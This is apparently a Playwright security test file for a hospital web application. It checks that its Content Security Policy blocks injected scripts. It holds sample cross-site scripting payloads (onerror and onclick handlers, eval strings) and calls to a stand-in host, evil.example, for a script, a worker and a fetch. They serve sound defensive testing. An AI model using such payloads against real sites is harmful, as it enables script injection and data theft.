import { demoWards } from '@tongping/domain/organization';
import { demoPeople } from '@tongping/domain/patient';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { arrive, origin, password, send, type Account } from '../actors/index.ts';
import { ask } from '../actors/wire.ts';

interface Blocked {
	readonly directive: string;
	readonly what: string;
	readonly page: string;
}
/** Everything the browser blocks in this context, told by the page itself. */
async function watched(context: BrowserContext): Promise<Blocked[]> {
	const blocked: Blocked[] = [];
	await context.exposeBinding('blockedHere', (_, found: Blocked) => blocked.push(found));
	await context.addInitScript(() => {
		document.addEventListener('securitypolicyviolation', (event) => {
			const tell = (window as unknown as { blockedHere: (found: unknown) => void }).blockedHere;
			tell({
				directive: event.effectiveDirective,
				what: `${event.blockedURI} ${event.sample} ${event.sourceFile}:${event.lineNumber}`,
				page: location.pathname
			});
		});
	});
	return blocked;
}
const person = demoPeople.filter((one) => one.ward === 'male' && one.bed !== null).at(-4);

/** Where each post goes, and what shows that the page has come to life. */
const walks: readonly { readonly who: Account; readonly pages: readonly (readonly [string, string])[] }[] = [
	{
		who: 'resident1',
		pages: [
			['/', '[data-bed], .board, main'],
			[`/wards/${demoWards.male}`, 'main'],
			[`/patients/${person?.id}`, 'canvas, main'],
			[`/patients/${person?.id}/round`, '.tiptap'],
			['/notes', 'main'],
			['/nowhere', 'main, h1']
		]
	},
	{ who: 'radiologist1', pages: [['/imaging', '[data-testid=study]']] },
	{
		who: 'admin1',
		pages: [
			['/', 'main, h1'],
			['/imaging', 'main'],
			['/admin', 'main, h1']
		]
	}
];

for (const locale of ['zh-CN', 'en'])
	test(`no screen does what the browser would block (${locale})`, async ({ browser }) => {
		test.setTimeout(120_000);
		const context = await browser.newContext({ baseURL: origin() });
		const stranger = await watched(context);
		const door = await context.newPage();
		await context.addCookies([{ name: 'locale', value: locale, url: origin() }]);
		await door.goto('/sign-in');
		await door.locator('input[name=username]').fill('nurse1');
		await door.locator('input[name=password]').fill('wrong');
		await door.locator('form button.pri').click();
		await expect(door.getByRole('alert')).toBeVisible();
		await door.locator('input[name=password]').fill(password());
		await door.locator('form button.pri').click();
		await expect(door).not.toHaveURL(/sign-in/u);
		await door.locator('main').waitFor();
		await door.keyboard.press('Control+k');
		await door.keyboard.press('Escape');
		expect(stranger).toEqual([]);
		await context.close();

		for (const { who, pages } of walks) {
			const actor = await arrive(browser, who);
			await actor.context.addCookies([
				{ name: 'locale', value: locale, url: origin() },
				{ name: 'theme', value: locale === 'en' ? 'dark' : 'light', url: origin() }
			]);
			const blocked = await watched(actor.context);
			if (who === 'resident1')
				await send(actor.context.request, 'clinical-document.note.open', { patient: person?.id, stay: person?.stay, type: 'daily-progress' });
			for (const [path, alive] of pages) {
				await actor.page.goto(path);
				await actor.page.locator(alive).first().waitFor();
				await settled(actor.page);
			}
			if (who === 'resident1') {
				await actor.page.goto(`/patients/${person?.id}/round`);
				const section = actor.page.locator('.tiptap').first();
				await section.click();
				expect(blocked, 'before the paste').toEqual([]);
				// A paste is the one place where somebody else's markup is read.
				await section.evaluate((element) => {
					const data = new DataTransfer();
					data.setData('text/html', '<p>paste <b onclick="alert(1)">d</b><img src=x onerror=alert(1)></p>');
					element.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
				});
				await expect(section).toContainText('paste d');
				// The rules stop its handlers even before the editor's schema drops them.
				expect(blocked.splice(0).map(({ directive }) => directive)).toEqual(['script-src-attr', 'script-src-attr']);
				const note = await actor.page.locator('[data-note]').first().getAttribute('data-note');
				await actor.page.goto(`/notes/${note}/print`);
				await settled(actor.page);
			}
			if (who === 'radiologist1') {
				await actor.page.getByTestId('study').filter({ hasText: 'CT2611210031' }).getByRole('link').first().click();
				await expect(actor.page.getByTestId('viewport').first()).toHaveAttribute('data-phase', 'ready', { timeout: 30_000 });
				await settled(actor.page);
			}
			expect(blocked, `${who} in ${locale}`).toEqual([]);
			await actor.leave();
		}
	});

async function settled(page: Page): Promise<void> {
	await page.waitForLoadState('load');
	await page.waitForTimeout(500);
}

test('what is planted in a page does not run, whichever way it comes', async ({ browser }) => {
	const nurse = await arrive(browser, 'nurse1');
	const blocked = await watched(nurse.context);
	await nurse.page.goto('/');
	await nurse.page.locator('main').waitFor();
	const ways = await nurse.page.evaluate(async () => {
		// A tester’s own code may evaluate text; what the page itself runs later may not.
		await new Promise((resolve) => setTimeout(resolve, 50));
		const tried: Record<string, string> = {};
		const attempt = (name: string, run: () => void): void => {
			try {
				run();
				tried[name] = 'ran';
			} catch (error) {
				tried[name] = (error as Error).name;
			}
		};
		const add = (tag: string, fill: (element: HTMLElement) => void): void => {
			const element = document.createElement(tag);
			fill(element);
			document.body.append(element);
		};
		attempt('markup as text', () => {
			document.body.innerHTML = '<img src=x onerror="window.taken=1">';
		});
		attempt('a parser', () => new DOMParser().parseFromString('<p>x', 'text/html'));
		attempt('eval', () => {
			(0, eval)('window.taken = 1');
		});
		attempt('a function of text', () => new Function('window.taken = 1')());
		attempt('a policy of one’s own', () =>
			(window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {})
		);
		attempt('a foreign worker', () => new Worker('https://evil.example/x.js'));
		attempt('a worker of data', () => new Worker('data:text/javascript,postMessage(1)'));
		attempt('a script by address', () => {
			add('script', (element) => {
				(element as HTMLScriptElement).src = 'https://evil.example/x.js';
			});
		});
		attempt('a style element', () => {
			add('style', (element) => {
				element.textContent = 'body { outline: 9px solid rgb(1, 2, 3) }';
			});
			if (getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)') tried['style'] = 'applied';
		});
		await fetch('https://evil.example/?name=x').catch((error: Error) => (tried['a foreign address'] = error.name));
		tried['taken'] = String((window as { taken?: number }).taken);
		return tried;
	});
	expect(ways).toEqual({
		'markup as text': 'TypeError',
		'a parser': 'TypeError',
		eval: 'EvalError',
		'a function of text': 'EvalError',
		'a policy of one’s own': 'TypeError',
		'a foreign worker': 'TypeError',
		'a worker of data': 'TypeError',
		'a script by address': 'TypeError',
		'a style element': 'ran',
		'a foreign address': 'TypeError',
		taken: 'undefined'
	});
	const rules = new Set(blocked.map(({ directive }) => directive));
	for (const rule of ['require-trusted-types-for', 'trusted-types', 'style-src-elem', 'connect-src']) expect([...rules]).toContain(rule);
	await nurse.leave();
});

test('the rules stand in every page, and a report is taken without a word of the page', async () => {
	const { headers } = await ask('GET', '/sign-in');
	const policy = String(headers['content-security-policy']);
	for (const part of [
		"default-src 'none'",
		"object-src 'none'",
		"base-uri 'none'",
		"frame-ancestors 'none'",
		"require-trusted-types-for 'script'",
		'trusted-types svelte-trusted-html ProseMirrorClipboard default',
		'report-to csp',
		'report-uri /api/csp'
	])
		expect(policy).toContain(part);
	expect(policy.replace("style-src-attr 'unsafe-inline'", '')).not.toMatch(/unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')|\*|https?:/u);
	expect(headers['reporting-endpoints']).toBe('csp="/api/csp"');
	const report = JSON.stringify({ 'csp-report': { 'document-uri': `${origin()}/`, 'effective-directive': 'img-src', 'blocked-uri': 'inline' } });
	const tell = (body: string, type: string) => ask('POST', '/api/csp', { headers: { 'content-type': type, origin: origin() }, body });
	expect((await tell(report, 'application/csp-report')).status).toBe(204);
	expect((await tell('[]', 'application/reports+json')).status).toBe(204);
	expect((await tell('{', 'application/csp-report')).status).toBe(400);
	expect((await tell('x'.repeat(100_000), 'application/csp-report')).status).toBe(413);
});
